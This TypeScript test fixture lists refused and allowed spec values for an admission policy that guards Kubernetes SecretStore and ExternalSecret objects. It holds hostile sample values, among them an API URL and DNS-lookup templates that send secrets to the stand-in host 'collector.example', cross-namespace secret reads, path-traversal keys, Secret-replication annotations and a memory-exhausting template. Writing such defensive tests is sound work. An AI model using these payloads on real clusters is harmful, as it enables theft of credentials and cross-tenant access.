import { type Kind, kinds } from '../../scripts/kubernetes/kinds.ts'
import { isRecord } from '../../scripts/lib/record.ts'
import type { TierModel } from '../../scripts/model/resolve.ts'
import { requiredTarget } from '../helpers/targets.ts'
import { withValue } from '../helpers/values.ts'
import { externalSecretOf, storeOf } from './admission-world.ts'

/** A tier, another one, and what both have in common. */
export interface Scene {
  readonly own: TierModel
  readonly other: TierModel
  readonly region: string
  readonly apiUrl: string
}

/** Values for one place of a spec: refused, and let in. Nothing else differs between the two. */
export interface Attack {
  readonly rule: string
  readonly title: string
  readonly kind: Kind
  readonly place: string
  readonly attack: (scene: Scene) => unknown
  readonly twin: (scene: Scene) => unknown
  /** Name of the object, where the rule is about it. */
  readonly name?: (scene: Scene) => string
}

/** The spec of an attack, or of its harmless twin. */
export function specOf({ kind, place, ...values }: Attack, which: 'attack' | 'twin', scene: Scene): unknown {
  const { own, region, apiUrl } = scene
  const base = kind === kinds.secretStore ? storeOf(own, region, apiUrl) : externalSecretOf(own)
  return withValue(base, place, values[which](scene))
}

const scaleway = 'provider.scaleway'
const uuid = '9b7f2d64-0c1e-4a85-8f3d-6e5a1b2c4d70'
const metadataRule = 'EXTERNAL_SECRET_METADATA'
const keyPlace = 'data.0.remoteRef.key'
const path = ({ remotePath }: TierModel, name = 'a') => `path:${remotePath}/${name}`

export const storeAttacks: readonly Attack[] = [
  attackOn('STORE_PROVIDER', 'values generated in the store itself', 'provider', {
    attack: () => ({ fake: { data: [{ key: 'a', value: 'b' }] } }),
    twin: ({ own, region, apiUrl }) => storeOf(own, region, apiUrl).provider,
  }),
  attackOn('STORE_PROVIDER', 'a provider that reads the Secrets of other namespaces', 'provider', {
    attack: ({ other }) => ({ kubernetes: { remoteNamespace: other.namespace } }),
    twin: ({ own, region, apiUrl }) => storeOf(own, region, apiUrl).provider,
  }),
  attackOn('STORE_PROJECT', 'another project', `${scaleway}.projectId`, {
    attack: () => uuid,
    twin: ({ own }) => own.projectId,
  }),
  attackOn('STORE_REGION', 'another region', `${scaleway}.region`, {
    attack: () => 'nl-ams',
    twin: ({ region }) => region,
  }),
  attackOn('STORE_API_URL', 'a server that collects API keys', `${scaleway}.apiUrl`, {
    attack: () => 'https://collector.example/eu',
    twin: () => undefined,
  }),
  attackOn('STORE_API_URL', 'a server whose address begins like the allowed one', `${scaleway}.apiUrl`, {
    attack: ({ apiUrl }) => `${apiUrl}.collector.example`,
    twin: ({ apiUrl }) => (apiUrl === '' ? undefined : apiUrl),
  }),
  attackOn('STORE_KEY_INLINE', 'a secret key in the store', `${scaleway}.secretKey`, {
    attack: () => ({ value: uuid }),
    twin: ({ own }) => ({ secretRef: { name: own.credentialsSecret, key: 'secret-key' } }),
  }),
  attackOn('STORE_KEY_INLINE', 'an access key beside its secretRef', `${scaleway}.accessKey.value`, {
    attack: () => 'SCWXXXXXXXXXXXXXXXXX',
    twin: () => undefined,
  }),
  attackOn('STORE_CREDENTIAL', 'the credential of the other tier', `${scaleway}.secretKey.secretRef.name`, {
    attack: ({ other }) => other.credentialsSecret,
    twin: ({ own }) => own.credentialsSecret,
  }),
  attackOn(
    'STORE_CREDENTIAL',
    "a credential in the other tier's namespace",
    `${scaleway}.accessKey.secretRef.namespace`,
    {
      attack: ({ other }) => other.namespace,
      twin: ({ own }) => own.namespace,
    },
  ),
  attackOn('STORE_CREDENTIAL_KEY', 'the two halves swapped', `${scaleway}.accessKey.secretRef.key`, {
    attack: () => 'secret-key',
    twin: () => 'access-key',
  }),
]

const refusedKeys: Readonly<Record<string, (scene: Scene) => string>> = {
  'a secret of the other tier': ({ other }) => path(other),
  'a secret by id, which can be of any project': () => `id:${uuid}`,
  'a secret by name, which can be in any folder': () => 'name:a',
  'a secret of a folder below': ({ own }) => path(own, 'b/a'),
  'a folder without a name': ({ own }) => path(own, ''),
  'the folder itself': ({ own }) => `path:${own.remotePath}`,
  'a folder whose name begins like its own': ({ own }) => `path:${own.remotePath}-2/a`,
  'no form at all': () => 'a',
  'the folder above, for a server that reads dots': ({ own }) => path(own, '..'),
  'the folder itself, for a server that reads dots': ({ own }) => path(own, '.'),
  'a name with a space': ({ own }) => path(own, 'a b'),
  'a name with a coded slash': ({ own }) => path(own, '..%2Fa'),
  'a name that is too long': ({ own }) => path(own, 'a'.repeat(256)),
}

/** Templates of one value. */
const refusedTemplates: Readonly<Record<string, (scene: Scene) => string>> = {
  'a Secret of the other tier, read by a function': ({ other }) =>
    `{{ getSecretKey "${requiredTarget(other)?.name}" "${other.namespace}" "DATABASE_URL" }}`,
  'a value that leaves as a DNS name': () => '{{ getHostByName (printf "%s.collector.example" .A) }}',
  'a list that fills the memory of the operator': () => '{{ range until 100000000 }}x{{ end }}',
  'a function of a value': () => '{{ .A | b64enc }}',
  'two values': () => '{{ .A }}{{ .B }}',
  'a field of a value': () => '{{ .A.B }}',
  'all values': () => '{{ . }}',
  'a variable': () => '{{ $ }}',
  'a value with text around it': () => 'https://collector.example/{{ .A }}',
  'no value of Scaleway': () => 'https://collector.example',
  'a line break after a value': () => '{{ .A }}\n',
}

/** What the chart renders for an optional bundle. */
export const optionalTemplate = (...keys: readonly string[]) =>
  [
    '{{- range $key, $value := . }}',
    ...keys.flatMap((key) => [`{{- if eq $key "${key}" }}`, '"A": {{ $value | toJson }}', '{{- end }}']),
    '{{- end }}',
    '',
  ].join('\n')

/** Sources of a template. */
const refusedSources: Readonly<Record<string, (scene: Scene) => object>> = {
  'reads a Secret': ({ own }) => ({ secret: { name: own.credentialsSecret, items: [{ key: 'secret-key' }] } }),
  'reads a ConfigMap': () => ({ configMap: { name: 'a', items: [{ key: 'a' }] } }),
  'reads a ConfigMap beside its literal': () => ({
    literal: optionalTemplate('A'),
    configMap: { name: 'a', items: [{ key: 'a' }] },
  }),
  'calls a function': ({ other }) => ({
    literal: `A: {{ getSecretKey "${requiredTarget(other)?.name}" "${other.namespace}" "DATABASE_URL" }}`,
  }),
  'calls a function between the lines of the chart': () => ({
    literal: optionalTemplate('A').replace('$value |', '$value | getHostByName |'),
  }),
  'calls a function in the name of a key': () => ({ literal: optionalTemplate('A" | getHostByName "') }),
  'continues after the lines of the chart': () => ({ literal: `${optionalTemplate('A')}{{ getHostByName "a" }}` }),
  'has loops in loops': () => ({ literal: optionalTemplate('A').repeat(2) }),
  'writes no value of Scaleway': () => ({ literal: 'A: https://collector.example' }),
  'writes labels': () => ({ target: 'Labels', literal: optionalTemplate('A') }),
  'writes annotations': () => ({ target: 'Annotations', literal: optionalTemplate('A') }),
}

/** Annotations by which somebody copies a Secret elsewhere, and others that the chart does not render. */
const refusedAnnotations: Readonly<Record<string, string>> = {
  'replicator.v1.mittwald.de/replicate-to': '.*',
  'reflector.v1.k8s.emberstack.com/reflection-allowed': 'true',
  'kubed.appscode.com/sync': 'a=b',
  'reloader.stakater.com/match': '{{ .A }}',
}

/** Paths that are more than the name of a field. */
const refusedProperties = ['@tostr|@tostr', 'a|@pretty', 'a.*', '{a,b}', 'a..b', '#(a=="b").c', '!"generated"', 'a\\']

const prefix = (target: string) => ({ regexp: { source: '^', target } })
const refusedRewrites: Readonly<Record<string, readonly object[]>> = {
  'a template for a name': [{ transform: { template: '{{ getHostByName .value }}' } }],
  'several values in one': [{ merge: { into: 'A', strategy: 'JSON' } }],
  'names that double each time': [{ regexp: { source: '(.+)', target: '$1$1' } }],
  'a prefix that refers to the name': [prefix('$0')],
  'two prefixes': [prefix('a'), prefix('b')],
}

export const externalSecretAttacks: readonly Attack[] = [
  attackOn('EXTERNAL_SECRET_STORE_KIND', 'a store of the cluster', 'secretStoreRef.kind', {
    attack: () => 'ClusterSecretStore',
    twin: () => 'SecretStore',
  }),
  attackOn('EXTERNAL_SECRET_STORE_KIND', 'a store of the cluster, for one entry', 'data.0.sourceRef', {
    attack: ({ own }) => ({ storeRef: { kind: 'ClusterSecretStore', name: own.secretStore } }),
    twin: ({ own }) => ({ storeRef: { kind: 'SecretStore', name: own.secretStore } }),
  }),
  attackOn('EXTERNAL_SECRET_STORE', 'a store of its own', 'secretStoreRef.name', {
    attack: () => 'mine',
    twin: ({ own }) => own.secretStore,
  }),
  attackOn('EXTERNAL_SECRET_STORE', 'no store', 'secretStoreRef', {
    attack: () => undefined,
    twin: ({ own }) => ({ name: own.secretStore }),
  }),
  attackOn('EXTERNAL_SECRET_STORE', 'a store of its own, for one entry', 'data.0.sourceRef', {
    attack: () => ({ storeRef: { name: 'mine' } }),
    twin: ({ own }) => ({ storeRef: { name: own.secretStore } }),
  }),
  attackOn('EXTERNAL_SECRET_STORE', 'a store of its own, for one bundle', 'dataFrom.0.sourceRef', {
    attack: () => ({ storeRef: { name: 'mine' } }),
    twin: ({ own }) => ({ storeRef: { name: own.secretStore } }),
  }),
  attackOn('EXTERNAL_SECRET_GENERATOR', 'values of a generator', 'dataFrom.0', {
    attack: () => ({ sourceRef: { generatorRef: { kind: 'Webhook', name: 'a' } } }),
    twin: ({ own }) => ({ extract: { key: path(own) } }),
  }),
  attackOn('EXTERNAL_SECRET_GENERATOR', 'one value of a generator', 'data.0.sourceRef', {
    attack: () => ({ generatorRef: { kind: 'Password', name: 'a' } }),
    twin: () => undefined,
  }),
  attackOn('EXTERNAL_SECRET_FIND', 'whatever is found', 'dataFrom.0', {
    attack: () => ({ find: { name: { regexp: '.*' } } }),
    twin: ({ own }) => ({ extract: { key: path(own) } }),
  }),
  ...Object.entries(refusedKeys).flatMap(([title, attack]) => [
    attackOn('EXTERNAL_SECRET_KEY', title, keyPlace, { attack, twin: ({ own }) => path(own) }),
    attackOn('EXTERNAL_SECRET_KEY', `${title}, as a bundle`, 'dataFrom.0.extract.key', {
      attack,
      twin: ({ own }) => path(own),
    }),
  ]),
  attackOn('EXTERNAL_SECRET_TARGET', 'a foreign Secret as target', 'target.name', {
    attack: ({ own }) => own.credentialsSecret,
    twin: ({ own }) => requiredTarget(own)?.name,
  }),
  {
    ...attackOn('EXTERNAL_SECRET_TARGET', 'no target, and so the one of its own name', 'target.name', {
      attack: () => undefined,
      twin: ({ own }) => requiredTarget(own)?.name,
    }),
    name: ({ own }) => own.credentialsSecret,
  },
  attackOn('EXTERNAL_SECRET_TYPE', 'a token of a ServiceAccount', 'target.template', {
    attack: () => ({ type: 'kubernetes.io/service-account-token', mergePolicy: 'Replace' }),
    twin: () => ({ type: 'Opaque', mergePolicy: 'Replace' }),
  }),
  ...Object.entries(refusedTemplates).map(([title, attack]) =>
    attackOn('EXTERNAL_SECRET_TEMPLATE', title, 'target.template.data', {
      attack: (scene) => ({ A: attack(scene) }),
      twin: () => ({ A: '{{ .A }}', S3_BUCKET: '{{ .b_s3__S3_BUCKET }}' }),
    }),
  ),
  attackOn('EXTERNAL_SECRET_TEMPLATE', 'a template for a key', 'target.template.data', {
    attack: () => ({ '{{ getHostByName .A }}': '{{ .A }}' }),
    twin: () => ({ 'tls.key': '{{ .A }}' }),
  }),
  ...Object.entries(refusedSources).map(([title, attack]) =>
    attackOn('EXTERNAL_SECRET_TEMPLATE_FROM', `a template that ${title}`, 'target.template.templateFrom', {
      attack: (scene) => [attack(scene)],
      twin: () => [{ target: 'Data', literal: optionalTemplate('A', 'b_s3__S3_BUCKET') }],
    }),
  ),
  ...Object.entries(refusedAnnotations).map(([name, value]) =>
    attackOn(metadataRule, `the annotation ${name}: ${value}`, 'target.template.metadata.annotations', {
      attack: () => ({ [name]: value }),
      twin: () => ({ 'reloader.stakater.com/match': 'true' }),
    }),
  ),
  attackOn(metadataRule, 'a label by which a collector finds it', 'target.template.metadata.labels', {
    attack: () => ({ grafana_datasource: '1' }),
    twin: () => ({ 'app.kubernetes.io/part-of': 'shop', 'tiered-secrets/environment': 'recette' }),
  }),
  attackOn(metadataRule, 'a template in a label', 'target.template.metadata.labels', {
    attack: () => ({ 'app.kubernetes.io/component': '{{ .A }}' }),
    twin: ({ own }) => ({ 'app.kubernetes.io/component': own.name }),
  }),
  attackOn(metadataRule, 'a finalizer', 'target.template.metadata.finalizers', {
    attack: () => ['a.example/held'],
    twin: () => [],
  }),
  ...refusedProperties.map((property) =>
    attackOn('EXTERNAL_SECRET_PROPERTY', `the property ${property}`, 'data.0.remoteRef.property', {
      attack: () => property,
      twin: () => 'smtp.user\\.name.été',
    }),
  ),
  attackOn('EXTERNAL_SECRET_PROPERTY', 'a modifier, for a bundle', 'dataFrom.0.extract.property', {
    attack: () => '@tostr',
    twin: () => 'smtp',
  }),
  attackOn('EXTERNAL_SECRET_VERSION', 'an old version', 'data.0.remoteRef.version', {
    attack: () => '1',
    twin: () => undefined,
  }),
  attackOn('EXTERNAL_SECRET_VERSION', 'an old version of a bundle', 'dataFrom.0.extract.version', {
    attack: () => 'latest',
    twin: () => undefined,
  }),
  attackOn('EXTERNAL_SECRET_VERSION', 'what is said of a value', 'data.0.remoteRef.metadataPolicy', {
    attack: () => 'Fetch',
    twin: () => 'None',
  }),
  ...Object.entries(refusedRewrites).map(([title, rewrite]) =>
    attackOn('EXTERNAL_SECRET_REWRITE', title, 'dataFrom.0.rewrite', {
      attack: () => rewrite,
      twin: () => [prefix('b_s3__')],
    }),
  ),
  ...['Orphan', 'Merge', 'None'].map((policy) =>
    attackOn('EXTERNAL_SECRET_POLICY', `the creationPolicy ${policy}`, 'target.creationPolicy', {
      attack: () => policy,
      twin: () => 'Owner',
    }),
  ),
  attackOn('EXTERNAL_SECRET_POLICY', 'what is not in the template beside it', 'target.template.mergePolicy', {
    attack: () => 'Merge',
    twin: () => 'Replace',
  }),
]

export const attacks: readonly Attack[] = [...storeAttacks, ...externalSecretAttacks]

/** JSON merge patch from one value to another. */
export function mergePatchBetween(from: unknown, to: unknown): unknown {
  if (!isRecord(from) || !isRecord(to)) return to
  const removed = Object.keys(from).filter((key) => to[key] === undefined)
  const changed = Object.keys(to).filter((key) => to[key] !== undefined)
  return Object.fromEntries([
    ...removed.map((key) => [key, null]),
    ...changed.map((key) => [key, mergePatchBetween(from[key], to[key])]),
  ])
}

// --- internal ---

function attackOn(rule: string, title: string, place: string, values: Pick<Attack, 'attack' | 'twin'>): Attack {
  const kind = rule.startsWith('STORE_') ? kinds.secretStore : kinds.externalSecret
  return { rule, title, kind, place, ...values }
}
